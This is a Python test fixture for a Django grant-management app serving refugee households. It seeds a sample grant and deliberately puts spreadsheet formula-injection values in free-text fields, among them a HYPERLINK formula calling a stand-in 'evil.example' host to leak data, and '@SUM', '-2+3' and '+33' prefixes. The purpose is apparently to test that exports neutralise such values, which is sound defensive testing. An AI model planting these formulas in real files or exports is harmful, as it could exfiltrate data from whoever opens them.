"""A grant with one of every kind of row the control pack reads, built through the services.

Today is 20 June 2026. Grant FAMI-PACK (site A, 2026). H1 (refugee, evidence checked, with a
scan) attended a workshop (signed sheet uploaded), had both interviews, a referral, moved and
was followed up; H2 (status "other") had an interview. Hours: both interviews, the workshop's
facilitator, one entry by hand and a correction; an expense shared with a second grant.
Formula-like text sits in the workshop topic, a partner's name, a staff name, an activity,
a supplier and an invoice reference; MARKER in every free-text field of the database.
"""

import datetime
from decimal import Decimal

from django.apps import apps
from django.db import models

from followups.services import followup_record
from funding import services as funding
from funding.models import EvidenceKind, TimeEntry
from households.models import ConsentScope, Person, ProtectionStatus
from households.services import consent_record
from mobility_plans.models import HousingObtained, Lever
from mobility_plans.services import relocation_record
from partners.services import referral_send
from territories.models import Departement
from tests.factories import PartnerFactory, make_household, make_person
from tests.funding.factories import make_grant, pdf_upload
from tests.interviews.builders import record_diagnostic, record_interview, record_plan_interview
from workshops import services as workshops
from workshops.session_services import session_attach_signed_sheet

D = datetime.date
NOW = datetime.datetime(2026, 6, 20, 12, 0, tzinfo=datetime.UTC)
MARKER = "ZQXMARKERQXZ"
FIRST_NAME, LAST_NAME = "Zénobie", "Quatrefeuilles"
HOSTILE = '=HYPERLINK("http://evil.example/?leak","clic")'
# Free text kept in CharFields (TextFields are all found by the loop below).
FREE_TEXT_CHARFIELDS = {
    "interviews.Interview": ["place"],
    "partners.Referral": ["refusal_reason"],
    "mobility_plans.Relocation": ["commune", "job_or_training"],
    "mobility_plans.PlanStep": ["action", "owner"],
    "households.Household": ["commune"],
}
PROJECT_APPS = (
    "households", "interviews", "mobility_plans", "partners", "workshops", "followups",
    "funding", "accounts",
)  # fmt: skip


def person(household, by, protection, **names):
    names = {"first_name": FIRST_NAME, "last_name": LAST_NAME, **names}
    return make_person(household=household, by=by, protection_status=protection, **names)


def build(*, site, director, coordinator, social_worker):
    grant = make_grant(
        by=director,
        sites=[site],
        signed=True,
        agreement_reference="FAMI-PACK",
        starts_on=D(2026, 1, 1),
        ends_on=D(2026, 12, 31),
    )
    other_grant = make_grant(
        by=director, sites=[site], agreement_reference="FSE-OTHER", starts_on=D(2026, 1, 1)
    )
    coordinator.first_name = "@SUM(1+1)"
    coordinator.last_name = "Coordinatrice"
    coordinator.save()
    funding.staff_cost_set(
        by=director, staff=social_worker, year=2026, annual_cost=Decimal("34400")
    )

    h1 = make_household(site=site, by=social_worker, referral_date=D(2026, 2, 1))
    refugee = person(h1, social_worker, ProtectionStatus.REFUGEE)
    person(h1, social_worker, ProtectionStatus.REFUGEE, first_name="Octave", relation="spouse")
    evidence = funding.evidence_record(
        by=social_worker,
        person=refugee,
        kind=EvidenceKind.REFUGEE_RESIDENT_CARD,
        number="NUM-SECRET-4711",
        issued_on=D(2025, 1, 1),
        scan=pdf_upload(),
    )
    funding.evidence_check(evidence=evidence, by=director)

    workshop = workshops.workshop_create(
        by=coordinator,
        site=site,
        date=D(2026, 3, 10),
        place="Salle 1",
        capacity=10,
        topic=HOSTILE,
        start_time=datetime.time(9),
        end_time=datetime.time(12),
        language="français",
        facilitators=[coordinator],
    )
    workshops.workshop_register_household(workshop=workshop, household=h1, by=social_worker)
    workshops.workshop_household_present(workshop=workshop, household=h1, by=social_worker)
    session_attach_signed_sheet(session=workshop, upload=pdf_upload("signé.pdf"), by=coordinator)

    record_diagnostic(household=h1, by=social_worker, held_on=D(2026, 4, 1))
    plan = record_plan_interview(
        household=h1, by=social_worker, held_on=D(2026, 4, 15), signed_on=D(2026, 4, 15)
    )
    consent_record(
        household=h1, scope=ConsentScope.PARTNER_SHARING, given_on=D(2026, 4, 15), by=social_worker
    )
    referral_send(
        plan=plan,
        partner=PartnerFactory(name="-2+3 Bailleur"),
        by=social_worker,
        sent_on=D(2026, 4, 20),
        channel="email",
    )
    relocation_record(
        plan=plan,
        by=social_worker,
        moved_on=D(2026, 5, 10),
        commune="Rennes",
        departement=Departement.objects.get(code="35"),
        lever_used=Lever.EMPLOYMENT,
        housing_obtained=HousingObtained.SOCIAL,
        persons=list(h1.members.all()),
    )
    followup = h1.followups.order_by("due_on").first()
    followup_record(followup=followup, by=social_worker, done_on=D(2026, 6, 12), method="phone")

    h2 = make_household(site=site, by=social_worker, referral_date=D(2026, 2, 1))
    person(h2, social_worker, ProtectionStatus.OTHER, first_name="Philémon")
    record_interview(household=h2, by=social_worker, held_on=D(2026, 6, 9), duration_minutes=90)

    entry = funding.time_entry_add(
        by=coordinator,
        staff=coordinator,
        date=D(2026, 6, 2),
        hours=Decimal("2"),
        activity=HOSTILE,
        grant=grant,
    )
    interview_entry = TimeEntry.objects.filter(source="interview", grant=grant).first()
    funding.time_entry_correct(
        entry=interview_entry, by=director, hours=Decimal("-0.5"), reason="correction"
    )
    funding.timesheet_validate(staff=coordinator, grant=grant, month=D(2026, 6, 1), by=coordinator)
    funding.expense_record(
        by=director,
        date=D(2026, 5, 10),
        supplier=HOSTILE,
        category="travel",
        amount=Decimal("1000.00"),
        invoice_reference="+33-INV",
        shares=[(grant, Decimal("40")), (other_grant, Decimal("60"))],
    )
    mark_every_free_text()
    return {"grant": grant, "other_grant": other_grant, "h1": h1, "h2": h2, "entry": entry}


def mark_every_free_text() -> None:
    """MARKER in every TextField of every row of the project's models, and in the CharFields
    that hold free text."""
    for label in PROJECT_APPS:
        for model in apps.get_app_config(label).get_models():
            if model._meta.proxy or not model._meta.managed:
                continue
            names = [
                f.name
                for f in model._meta.concrete_fields
                if isinstance(f, models.TextField) and not f.name.startswith("search")
            ]
            names += FREE_TEXT_CHARFIELDS.get(model._meta.label, [])
            if names:
                model._base_manager.update(**dict.fromkeys(names, MARKER))


def person_names() -> set[str]:
    names = set()
    for first, last in Person.objects.values_list("first_name", "last_name"):
        names.update({first, last})
    return names
